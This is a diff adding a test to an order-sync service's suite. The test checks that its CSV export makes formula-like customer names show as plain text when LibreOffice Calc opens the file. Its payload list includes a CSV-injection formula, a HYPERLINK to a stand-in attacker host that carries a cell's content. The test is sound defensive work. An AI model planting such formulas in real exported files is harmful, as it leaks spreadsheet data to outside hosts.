@@ -8,10 +8,14 @@ import csv
 import io
 import json
 import os
+import shutil
 import sqlite3
 import subprocess
 import time
+import zipfile
+from xml.etree import ElementTree
 
+from lan_support import require
 from ordersync_lab import OrderSyncNode, UnixHTTPConnection, ordersync_binary
 
 TRICKY = [
@@ -164,3 +168,76 @@ def test_csv_json_filters_and_flat_memory(make_lan):
     # Memory does not grow with the store: a million orders within 25 % (+4 MiB) of ten thousand.
     for total in (100_000, 1_000_000):
         assert figures[total] < small * 1.25 + 4096, figures
+
+
+# Text a terminal could send that a spreadsheet would run as a formula (OWASP "CSV Injection").
+FORMULAS = ['=HYPERLINK("http://attacker.invalid/?"&A1;"Click")', "+1+1", "-2+3", "@SUM(1;2)", "=1+1"]
+
+
+def spreadsheet_cells(csv_path: str, workdir: str) -> list[list[tuple[str, str, bool]]]:
+    """Opens the CSV in LibreOffice Calc (headless, as UTF-8 with comma and double quote, its
+    default of evaluating formulas kept), saves it as .xlsx and reads the cells back: per row,
+    per cell (type, value, whether the cell holds a formula)."""
+    soffice = shutil.which("soffice")
+    require(soffice is not None, "the spreadsheet test needs LibreOffice (apt-get install libreoffice-calc-nogui)")
+    profile = os.path.join(workdir, "lo-profile")
+    r = subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--infilter=CSV:44,34,76,1",
+                        "--convert-to", "xlsx", "--outdir", workdir, csv_path], capture_output=True, timeout=180)
+    xlsx = os.path.splitext(csv_path)[0] + ".xlsx"
+    assert r.returncode == 0 and os.path.exists(xlsx), r
+    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    with zipfile.ZipFile(xlsx) as z:
+        strings = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t"))
+                   for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)]
+        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
+    rows = []
+    for row in sheet.iter(f"{{{ns['m']}}}row"):
+        cells = []
+        for c in row.findall("m:c", ns):
+            # An empty cell is left out: place each by its reference (B2 is the second column).
+            column = 0
+            for letter in c.get("r").rstrip("0123456789"):
+                column = column * 26 + ord(letter) - ord("A") + 1
+            while len(cells) < column - 1:
+                cells.append(("empty", "", False))
+            kind, v = c.get("t", "n"), c.find("m:v", ns)
+            value = "" if v is None else (strings[int(v.text)] if kind == "s" else v.text)
+            cells.append((kind, value, c.find("m:f", ns) is not None))
+        rows.append(cells)
+    return rows
+
+
+def test_a_spreadsheet_opens_the_csv_as_text_and_numbers_and_runs_no_formula(make_lan):
+    (h1,) = make_lan(1).hosts
+    master = OrderSyncNode.master(h1, store="shop1")
+    master.wait_api()
+    names = TRICKY + FORMULAS
+    for i, name in enumerate(names):
+        post_order(master, {
+            "uuid": f"00000000-0000-4000-8000-0000000000{i:02d}", "customerName": name,
+            "created": f"2026-11-{i + 1:02d}T12:00:00Z", "note": "=1+2" if i == 0 else "plain",
+            "items": [{"name": "-Espresso" if i == 0 else "Espresso", "quantity": 2, "unitPrice": 250 + i}],
+        })
+    target = os.path.join(h1.dir, "orders.csv")
+    r = export(master, "--format", "csv", "--output", target)
+    assert r.returncode == 0, r.stderr
+    rows = spreadsheet_cells(target, h1.dir)
+    header = [value for _, value, _ in rows[0]]
+    assert header[:4] == ["uuid", "created", "status", "customer_name"], header
+    body = rows[1:]
+    assert len(body) == len(names), rows
+    # Nothing a terminal typed became a formula: every cell is a plain value.
+    assert not any(formula for row in rows for _, _, formula in row), rows
+    column = {name: i for i, name in enumerate(header)}
+    shown = [row[column["customer_name"]][1] for row in body]
+    # Names show as typed (quotes, comma, line break, accents, CJK, emoji, spaces); one that starts
+    # like a formula shows with the leading apostrophe that made it text.
+    assert shown == TRICKY + ["'" + f for f in FORMULAS], shown
+    assert body[0][column["note"]][1] == "'=1+2"
+    for i, row in enumerate(body):
+        kind, cents, _ = row[column["total_cents"]]
+        assert kind == "n" and int(float(cents)) == 2 * (250 + i), row
+        kind, total, _ = row[column["total"]]
+        assert kind == "n" and abs(float(total) - 2 * (250 + i) / 100) < 1e-9, row
+    print(f"FIGURE spreadsheet: {len(body)} rows opened by LibreOffice Calc, 0 formulas, "
+          f"{len(FORMULAS)} formula-like names shown as text")
